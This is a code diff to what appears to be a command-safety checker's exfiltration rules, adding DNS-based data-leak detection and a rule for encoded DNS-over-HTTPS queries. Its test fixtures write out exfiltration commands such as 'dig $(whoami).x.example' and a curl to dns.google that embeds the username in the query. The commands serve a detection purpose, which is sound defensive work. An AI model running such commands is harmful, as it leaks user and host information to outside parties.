@@ -59,10 +59,30 @@ export const exfiltration: HazardPack = {
       advice: null,
       safer: 'dig example.com',
       examples: {
-        match: ['dig $(whoami).x.example', 'nslookup $(cat /etc/hostname).x.example'],
+        match: [
+          'dig $(whoami).x.example',
+          'nslookup $(cat /etc/hostname).x.example',
+          'curl "https://dns.google/resolve?name=$(whoami).x.example"',
+        ],
         not_match: ['dig example.com', 'nslookup example.com'],
       },
       actions: ['net:dns-exfiltration'],
+    },
+    {
+      id: 'hidden-question',
+      code: 'hazard.exfiltration',
+      level: 'soft',
+      reason: 'asks for a name in a form that nobody can read: it may hold anything',
+      advice: 'Ask for the name in plain words.',
+      safer: "curl -H 'accept: application/dns-json' 'https://dns.google/resolve?name=example.com'",
+      examples: {
+        match: [
+          "curl -H 'accept: application/dns-message' 'https://dns.example.net/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB'",
+        ],
+        not_match: ["curl 'https://dns.google/resolve?name=example.com&type=A'", 'curl https://example.com/dns-query'],
+      },
+      verbs: ['fetch', 'send'],
+      when: (effect) => isAway(effect) && /[?&]dns=[\w+/%-]{16}/.test(effect.target.value),
     },
     {
       id: 'send-secret',
